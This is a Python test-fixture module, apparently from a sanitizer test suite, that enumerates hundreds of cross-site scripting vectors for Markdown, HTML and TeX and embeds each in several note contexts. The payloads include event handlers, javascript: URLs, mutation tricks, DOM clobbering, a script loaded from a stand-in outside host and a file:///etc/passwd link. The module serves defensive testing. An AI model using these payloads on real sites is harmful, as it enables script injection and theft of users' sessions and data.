"""Hostile Markdown and HTML, and the contexts in a note that it is inserted into.

Each vector calls `xss()` if a browser runs it. The families are those that have broken sanitizers: event handlers,
script URLs, elements that switch the parser's mode, mutation by parsing twice, names that shadow the page's own, and
forged placeholders.
"""

from __future__ import annotations

from itertools import product

_HANDLERS = """
    onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput onbeforetoggle
    onbeforeunload onblur oncanplay onchange onclick onclose oncontextmenu oncopy oncuechange oncut ondblclick ondrag
    ondragend ondrop onended onerror onfocus onfocusin onformdata onfullscreenchange ongotpointercapture onhashchange
    oninput oninvalid onkeydown onkeypress onload onloadstart onmessage onmousedown onmouseenter onmouseover
    onpageshow onpaste onplay onpointerdown onpointerenter onpopstate onprogress onreset onresize onscroll onscrollend
    onsearch onselect onselectstart onshow onsubmit ontimeupdate ontoggle ontouchstart ontransitionend onunload
    onwheel
"""
_EVENTS = [f"<img src=x {handler}=xss()>" for handler in _HANDLERS.split()]

_AUTOPLAYING = [
    "<body onload=xss()>",
    "<details open ontoggle=xss()><summary>a</summary>b</details>",
    "<video autoplay onplay=xss() src=/static/a.mp4></video>",
    "<audio src=x onerror=xss()></audio>",
    "<video><source onerror=xss() src=x></video>",
    "<marquee onstart=xss()>a</marquee>",
    "<input autofocus onfocus=xss()>",
    "<select autofocus onfocus=xss()></select>",
    "<textarea autofocus onfocus=xss()></textarea>",
    "<keygen autofocus onfocus=xss()>",
    "<button autofocus onfocus=xss()>a</button>",
    "<a id=x tabindex=1 autofocus onfocus=xss()>a</a>",
    "<p contenteditable autofocus onfocus=xss()>a</p>",
    "<iframe onload=xss()></iframe>",
    "<object data=x onerror=xss()></object>",
    "<embed src=x onerror=xss()>",
    "<svg onload=xss()></svg>",
    "<svg><animate onbegin=xss() attributeName=x dur=1s></svg>",
    "<svg><set onbegin=xss() attributeName=x></svg>",
    "<math><mi onclick=xss()>a</mi></math>",
    "<style onload=xss()>a{}</style>",
    "<link rel=stylesheet href=x onerror=xss()>",
    "<track onerror=xss() src=x>",
    "<frameset onload=xss()>",
    "<isindex onfocus=xss() autofocus>",
    "<bgsound onpropertychange=xss()>",
    "<table background=javascript:xss()><tr><td>a</table>",
    "<dialog open onclose=xss()><form method=dialog><button>a</button></form></dialog>",
    "<font onmouseover=xss()>a</font>",
    "<center onclick=xss()>a</center>",
]

_ATTRIBUTE_SPELLINGS = [
    "<img/src=x/onerror=xss()>",
    "<img src=x\tonerror=xss()>",
    "<img src=x\x0conerror=xss()>",
    '<img src="x"onerror="xss()">',
    "<img src=x OnErRoR=xss()>",
    "<img src=x onerror\n=\nxss()>",
    "<img src=x onerror='xss()'>",
    "<img src=x onerror=`xss()`>",
    "<img src=x onerror=&#120;ss()>",
    "<img src=x onerror=xss&lpar;&rpar;>",
    "<img src=x alt=`><script>xss()</script>`>",
    "<img alt='<img src=x onerror=xss()>'>",
    '<img src="x` `<script>xss()</script>"` `>',
    '<img """><script>xss()</script>">',
    "<img src='x' x='>' onerror=xss()>",
    '<img src=x a=">" onerror=xss()>',
    '<img src=x =">" onerror=xss()>',
    "<img src onerror=xss() \n",
    "<img src=x onerror=xss()//",
    "<<img src=x onerror=xss()>",
    "<img src=x:x onerror=xss()>",
    "<a/onclick=xss()>a</a>",
    "<p/onclick=xss()/>a</p>",
    "<b <script>xss()</script>0</b>",
    "<div style='width:expression(xss())'>a</div>",
    '<div style="background:url(javascript:xss())">a</div>',
    "<div style='-moz-binding:url(//x/y#z)'>a</div>",
    "<p style=position:fixed;inset:0 onclick=xss()>a</p>",
    "<font style='behavior:url(#default#time2)'>a</font>",
    "<a href=x class=site-header id=content onclick=xss()>a</a>",
]

_SCHEMES = [
    "javascript:xss()",
    "JaVaScRiPt:xss()",
    " javascript:xss()",
    "\tjavascript:xss()",
    "java\tscript:xss()",
    "java\nscript:xss()",
    "java&#9;script:xss()",
    "java&NewLine;script:xss()",
    "&#106;avascript:xss()",
    "&#x6a;avascript:xss()",
    "&#0000106avascript:xss()",
    "javascript&colon;xss()",
    "javascript&#58;xss()",
    "javascript:xss()//https://a.example",
    "javascript://a.example/%0axss()",
    "\x01javascript:xss()",
    "\u2028javascript:xss()",
    "vbscript:xss()",
    "livescript:xss()",
    "data:text/html,<script>xss()</script>",
    "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=xss()>",
    "data:,xss()",
    "blob:xss",
    "file:///etc/passwd",
    "view-source:javascript:xss()",
    "feed:javascript:xss()",
    "jar:javascript:xss()!/",
    "mhtml:javascript:xss()",
    "filesystem:xss",
]
_PLACES_OF_ADDRESSES = [
    '<a href="{}">a</a>',
    "<img src='{}'>",
    "[a]({})",
    "<{}>",
    "![a]({})",
]
_ADDRESSES = [place.format(scheme) for place, scheme in product(_PLACES_OF_ADDRESSES, _SCHEMES)]

_ADDRESS_ATTRIBUTES = [
    "<form action=javascript:xss()><input type=submit></form>",
    "<button formaction=javascript:xss()>a</button>",
    "<iframe src=javascript:xss()></iframe>",
    "<iframe srcdoc='<script>xss()</script>'></iframe>",
    "<object data=javascript:xss()></object>",
    "<embed src=javascript:xss()>",
    "<base href=javascript:xss()//>",
    "<link rel=stylesheet href=javascript:xss()>",
    "<meta http-equiv=refresh content='0;url=javascript:xss()'>",
    "<video poster=javascript:xss()></video>",
    "<video src=javascript:xss()></video>",
    "<audio src=javascript:xss()></audio>",
    "<source src=javascript:xss()>",
    "<q cite=javascript:xss()>a</q>",
    "<blockquote cite=javascript:xss()>a</blockquote>",
    "<a href=# ping=javascript:xss()>a</a>",
    "<a href=/x target=_blank rel=opener>a</a>",
    "<area href=javascript:xss()>",
    "<image src=javascript:xss()>",
    "<input type=image src=javascript:xss()>",
    "<svg><a xlink:href=javascript:xss()><text y=9>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=a onload=xss()>#a'></svg>",
    "<svg><script href=javascript:xss()></script></svg>",
    "<svg><image href=javascript:xss()></svg>",
    "<svg><foreignObject><script>xss()</script></foreignObject></svg>",
    "<math href=javascript:xss()>a</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:xss()>a</maction></math>",
    "[a]: javascript:xss()\n\n[a]",
    "[a][b]\n\n[b]: <javascript:xss()>",
    "[a](<javascript:xss()>)",
    "[a](java\\script:xss())",
    "[a](javascript\\:xss())",
    "[a](/x \"onmouseover='xss()'\")",
    '[a](/x "\\"><img src=x onerror=xss()>")',
    '[a]("onclick=xss())',
    '!["onerror=xss() x="](x)',
    '![a](x "\\" onerror=xss() ")',
    '![a](x"onerror=xss())',
    '<https://a.example/"onclick=xss()>',
    'https://a.example/"onclick=xss()',
    "https://a.example/'><img/src=x/onerror=xss()>",
    '[["onclick=xss()]]',
    "[[x|<img src=x onerror=xss()>]]",
    "[^<img src=x onerror=xss()>]\n\n[^<img src=x onerror=xss()>]: a",
]

_RAW_TEXT = ("script", "style", "textarea", "title", "xmp", "iframe", "noembed", "noframes", "noscript")
_PARSER_STATES = [
    *(f"<{name}><img src=x onerror=xss()></{name}>" for name in (*_RAW_TEXT, "plaintext", "template", "select")),
    *(f"<{name}><!--</{name}><img src=x onerror=xss()>-->" for name in _RAW_TEXT),
    "<script>xss()</script>",
    "<SCRIPT>xss()</SCRIPT>",
    "<script\n>xss()</script\n>",
    "<script/x>xss()</script>",
    "<script src=//a.example/x.js></script>",
    "<scr<script>ipt>xss()</scr</script>ipt>",
    "<script>xss()",
    "</script><script>xss()</script>",
    "<script x='</script>'>xss()</script>",
    "<script type=module>xss()</script>",
    "<!--><img src=x onerror=xss()>-->",
    "<!---><img src=x onerror=xss()>-->",
    "<!--a--!><img src=x onerror=xss()>-->",
    "<!-- a -- ><img src=x onerror=xss()> -->",
    '<!--<img src="--><img src=x onerror=xss()//">',
    "<?xml version='1.0'?><img src=x onerror=xss()>",
    "<?><img src=x onerror=xss()>?>",
    "<![CDATA[<img src=x onerror=xss()>]]>",
    "<!DOCTYPE x [<!ENTITY y '<script>xss()</script>'>]>",
    "<!x><img src=x onerror=xss()>",
    "</ x><img src=x onerror=xss()>",
    "</><img src=x onerror=xss()>",
    '<div title="',
    "<div title='<p onclick=xss()>",
    '<a href="x',
    '<img src="x" alt="',
    "<p title='</p><img src=x onerror=xss()>'>a</p>",
    "<textarea></textarea ><img src=x onerror=xss()>",
]

_MUTATIONS = [
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=x onerror=xss()>">',
    '<svg><style><img title="</style><img src=x onerror=xss()>"></style></svg>',
    "<math><mi><style><img src=x onerror=xss()></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss()>",
    '<noscript><p title="</noscript><img src=x onerror=xss()>"></noscript>',
    '<svg></p><style><a id="</style><img src=x onerror=xss()>"></svg>',
    '<svg><p><title><a id="</title><img src=x onerror=xss()>"></svg>',
    "<math><annotation-xml encoding=text/html><style><img src=x onerror=xss()></style></annotation-xml></math>",
    "<svg><desc><table><td><style><!--</style><img src=x onerror=xss()>--></td></table></desc></svg>",
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=xss()>">',
    "<table><a href=x><tr><td><img src=x onerror=xss()></a></table>",
    "<p><table><p><img src=x onerror=xss()></table>",
    "<b><p></b><img src=x onerror=xss()></p>",
    "<a><div></a><a onclick=xss()></div>",
    '<xmp><p title="</xmp><img src=x onerror=xss()>"></xmp>',
    "<listing>&lt;img src=x onerror=xss()&gt;</listing>",
    "<p title='&lt;/p&gt;&lt;img src=x onerror=xss()&gt;'>a</p>",
    "<option><style></option></select><b><img src=x onerror=xss()></style></option>",
    "<font color='\"><img src=x onerror=xss()>'>a</font>",
    "<ruby><rt><img src=x onerror=xss()></ruby>",
    "<svg><![CDATA[<img src=x onerror=xss()>]]></svg>",
    "<math><![CDATA[<img src=x onerror=xss()>]]></math>",
    "<svg><title><![CDATA[</title><img src=x onerror=xss()>]]></svg>",
    "&lt;script&gt;xss()&lt;/script&gt;",
    "&#60;img src=x onerror=xss()&#62;",
    "\\<img src=x onerror=xss()\\>",
    "`<img src=x onerror=xss()>`",
    "``` \n<img src=x onerror=xss()>\n```",
    '```"><img/src=x/onerror=xss()>\nx\n```',
    '```python title="<img src=x onerror=xss()>"\nx\n```',
    "    <img src=x onerror=xss()>",
    "\u02ba><img src=x onerror=xss()>",
    "＜img src=x onerror=xss()＞",
    "<img\u00a0src=x onerror=xss()>",
    "<ımg src=x onerror=xss()>",
    "<img src=x\u2028onerror=xss()>",
]

_SHADOWS = [
    f"<{element} {attribute}={name}>a</{element}>"
    for element, attribute in (("a", "id"), ("a", "name"), ("img", "name"), ("form", "id"))
    for name in ("body", "cookie", "location", "content", "search", "theme")
]

_PLACEHOLDERS = [
    '<span data-placeholder="0"></span>',
    '<span data-placeholder="n0-0"></span>',
    "<span data-placeholder='n0000000000000000-0'></span> $x$",
    '<div data-placeholder="n0-0"></div>',
    '<p title="$x$">a</p>',
    '<img alt="$\\text{<img src=x onerror=xss()>}$" src=x>',
    "<textarea>$x$</textarea>",
    "<title>$x$</title>",
    '<a href="$x$">a</a>',
    "<script>$x$</script>",
    "<!-- $x$ --><img src=x onerror=xss()>",
    '<p class="n0callout">a</p>',
    '<p id="n0main">a</p>',
]

_TEX = [
    r"$\href{javascript:xss()}{a}$",
    r"$\url{javascript:xss()}$",
    r"$\href{data:text/html,<script>xss()</script>}{a}$",
    r"$\href{JaVaScRiPt:xss()}{a}$",
    r"$\href{#\" onclick=\"xss()}{a}$",
    r"$\includegraphics{javascript:xss()}$",
    r"$\htmlClass{a\" onclick=\"xss()}{a}$",
    r"$\htmlId{content}{a}$",
    r"$\htmlStyle{background:url(javascript:xss())}{a}$",
    r"$\htmlData{a=\"><script>xss()</script>}{a}$",
    r"$\text{<script>xss()</script>}$",
    r"$\text{</span><img src=x onerror=xss()>}$",
    r"$<img src=x onerror=xss()>$",
    r"$\color{red;background:url(javascript:xss())}a$",
    r"$\textcolor{\" onclick=\"xss()}{a}$",
    r"$\unknown{<img src=x onerror=xss()>}$",
    r"$\tag{<img src=x onerror=xss()>}$",
    r"$$\label{\"><img src=x onerror=xss()>}x$$",
    r"$$x\tag{</span><script>xss()</script>}$$",
    r"\eqref{\"><img src=x onerror=xss()>}",
    r"\eqref{<img src=x onerror=xss()>}",
    r"$\def\a{</span><img src=x onerror=xss()>}\a$",
    r"$\char`\<img src=x onerror=xss()>$",
    r"$\unicode{x3c}img src=x onerror=xss()>$",
    r"$</annotation></semantics></math><img src=x onerror=xss()>$",
]

_CONSTRUCTS = [
    '> [!NOTE"onclick=xss()]\n> a',
    "> [!<img src=x onerror=xss()>]\n> a",
    "> [!NOTE] <img src=x onerror=xss()>\n> a",
    '> [!THEOREM] <img src=x onerror=xss()> {#thm:"onclick=xss()}\n> a',
    "> [!FOO<script>xss()</script>] a",
    "<aside onclick=xss()>💡 <img src=x onerror=xss()></aside>",
    "<aside>💡 <script>xss()</script></aside>",
    "# <img src=x onerror=xss()>",
    '# a" onclick="xss()',
    "| <img src=x onerror=xss()> | a |\n|---|---|\n| <script>xss()</script> | b |",
    "a\n: <img src=x onerror=xss()>",
    "- [x] <img src=x onerror=xss()>",
    '![<img src=x onerror=xss()>](x "<img src=x onerror=xss()>")',
    'www.a.example/"onclick=xss()',
    'a"onclick=xss()@b.example',
]

VECTORS: tuple[str, ...] = (
    *_EVENTS,
    *_AUTOPLAYING,
    *_ATTRIBUTE_SPELLINGS,
    *_ADDRESSES,
    *_ADDRESS_ATTRIBUTES,
    *_PARSER_STATES,
    *_MUTATIONS,
    *_SHADOWS,
    *_PLACEHOLDERS,
    *_TEX,
    *_CONSTRUCTS,
)

CONTEXTS: dict[str, str] = {
    "alone": "{}",
    "in a line": "a {} b",
    "in emphasis": "**a {} b**",
    "in a heading": "## a {} b",
    "in a list item": "- a {} b",
    "in a quote": "> a {} b",
    "in a callout": "> [!NOTE] a {} b\n> c {} d",
    "in a table": "| a |\n|---|\n| {} |",
    "in a footnote": "a[^1]\n\n[^1]: {}",
    "in raw HTML": "<div>{}</div>\n\n$x$ after",
}


def documents() -> list[tuple[str, str]]:
    """Every vector in every context, each with a name."""
    return [
        (f"{index} {name}", context.replace("{}", vector))
        for index, vector in enumerate(VECTORS)
        for name, context in CONTEXTS.items()
    ]
